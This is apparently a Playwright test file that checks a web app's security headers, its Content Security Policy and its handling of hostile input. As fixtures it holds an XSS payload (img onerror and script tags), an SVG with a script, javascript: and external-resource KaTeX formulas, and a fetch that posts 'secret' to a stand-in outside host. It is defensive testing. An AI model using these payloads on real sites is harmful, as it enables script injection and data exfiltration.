import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { english as text } from '../src/messages/english/english';
import { quick } from './explorer';
import { expect, test } from './journey';

/** What the page lets in and out: its policy, its isolation, and what a hostile name or link becomes. */

test('the page is isolated, its policy is strict, and its engine works under both', async ({
  explorer,
  page,
}) => {
  const answers = new Map<string, Record<string, string>>();
  page.on('response', (response) => answers.set(new URL(response.url()).pathname, response.headers()));
  await explorer.open({ ...quick, epochs: '1', backend: 'wasm' });
  await explorer.button('play').click();
  await explorer.says(/^finished/);

  const document = answers.get('/')!;
  expect(document['cross-origin-opener-policy']).toBe('same-origin');
  expect(document['cross-origin-embedder-policy']).toBe('require-corp');
  expect(document['x-content-type-options']).toBe('nosniff');
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const policy of [meta!, document['content-security-policy']!]) {
    expect(policy).not.toMatch(/unsafe/);
    expect(sourcesOf(policy, 'default-src')).toEqual(["'none'"]);
    expect(sourcesOf(policy, 'script-src')).toEqual(["'self'"]);
    expect(sourcesOf(policy, 'object-src')).toEqual(["'none'"]);
    expect(sourcesOf(policy, 'base-uri')).toEqual(["'none'"]);
    expect(sourcesOf(policy, 'form-action')).toEqual(["'none'"]);
    const hosts = sourcesOf(policy, 'connect-src').filter((source) => source !== "'self'");
    expect(hosts.every((host) => /^https:\/\/(\*\.)?(huggingface\.co|hf\.co)$/.test(host))).toBe(true);
  }
  const workers = [...answers].filter(([path]) => /worker-[\w-]+\.js$/.test(path));
  expect(workers.length).toBeGreaterThan(0);
  for (const [, headers] of workers) {
    const policy = headers['content-security-policy']!;
    expect(sourcesOf(policy, 'script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
  }
});

function sourcesOf(policy: string, directive: string): string[] {
  const found = policy.split(';').map((part) => part.trim().split(/\s+/));
  return found.find(([name]) => name === directive)?.slice(1) ?? [];
}

test.describe('what a page must not do', () => {
  // each of them is a breach that the browser reports
  test.use({ provoked: [/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates/i] });

  test('nothing runs that stands in a text, and nothing goes anywhere', async ({ explorer, page }) => {
    // in a task of the page's own: what the test itself evaluates is exempt from the policy
    await page.addInitScript(() => {
      addEventListener('load', () => {
        try {
          document.documentElement.dataset['evaluated'] = String((0, eval)('6 * 7'));
        } catch (error) {
          document.documentElement.dataset['evaluated'] = (error as Error).name;
        }
      });
    });
    await explorer.open({ backend: 'wasm' });
    await expect(page.locator('html')).toHaveAttribute('data-evaluated', /Error$/);
    const tried = await page.evaluate(async () => {
      const outcome = async (work: () => unknown): Promise<string> => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      return {
        html: await outcome(() => (document.createElement('p').innerHTML = '<b>x</b>')),
        sent: await outcome(() => fetch('https://elsewhere.example/x', { method: 'POST', body: 'secret' })),
        started: await outcome(() => new Worker('https://elsewhere.example/x.js')),
      };
    });
    expect(tried).toEqual({
      html: 'TypeError',
      sent: 'TypeError',
      started: 'TypeError',
    });
  });
});

test('names, titles and formulae with HTML in them are read as text', async ({ explorer, page }) => {
  const script = '<img src=x onerror="document.title=\'taken\'"><script>document.title="taken"</script>';
  await explorer.open({ backend: 'wasm' });
  // an SVG with a script is no picture, whatever it is called
  await explorer.add({
    name: `${script}.png`.replaceAll('/', ''),
    mimeType: 'image/png',
    buffer: Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="taken"</script></svg>',
    ),
  });
  await expect(explorer.notices).toContainText(/<img src=x .*This is an SVG drawing/);

  await explorer.open({ place: 'lecture', backend: 'wasm' });
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: text.lecture.import }).click();
  const slide = {
    id: 'one',
    title: script,
    words: script,
    formulae: [
      '\\href{javascript:alert(1)}{x}',
      '\\htmlClass{x}{\\includegraphics{https://elsewhere.example/x}}',
    ],
  };
  const deck = { format: 'smm-deck', version: 1, title: script, language: 'en', slides: [slide] };
  await (
    await chooser
  ).setFiles({
    name: 'deck.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(deck)),
  });
  await expect(page.getByText(text.lecture.taken(script))).toBeVisible();
  const shelf = page.getByRole('article').filter({ hasText: script });
  await shelf.getByRole('button', { name: text.lecture.present }).click();
  const slideOne = page.getByRole('main', { name: text.lecture.stage.region });
  await expect(slideOne.getByRole('heading', { name: script })).toBeVisible();
  await expect(slideOne.locator('.katex').first()).toBeVisible();
  expect(await slideOne.locator('a[href^="javascript"], img[src*="elsewhere"]').count()).toBe(0);
  expect(await page.title()).not.toBe('taken');
  expect(await page.locator('img[src="x"]').count()).toBe(0);
});

test('a page that is isolated itself may still show a slide', async ({ explorer, page, baseURL }) => {
  await explorer.open({ backend: 'wasm' });
  const src = new URL('?embed&deck=ten-minutes&slide=idea', baseURL).href;
  const host = createServer((_, answer) =>
    answer
      .setHeader('content-type', 'text/html')
      .setHeader('cross-origin-embedder-policy', 'require-corp')
      .setHeader('cross-origin-opener-policy', 'same-origin')
      .end(`<title>Elsewhere</title><iframe src="${src}" title="slide" width="900" height="620"></iframe>`),
  );
  await new Promise<void>((ready) => host.listen(0, ready));
  const other = await page.context().newPage();
  await other.goto(`http://localhost:${(host.address() as AddressInfo).port}/`);
  await expect(
    other.frameLocator('iframe').getByRole('heading', { name: 'The idea: a mask for every picture' }),
  ).toBeVisible();
  host.close();
});
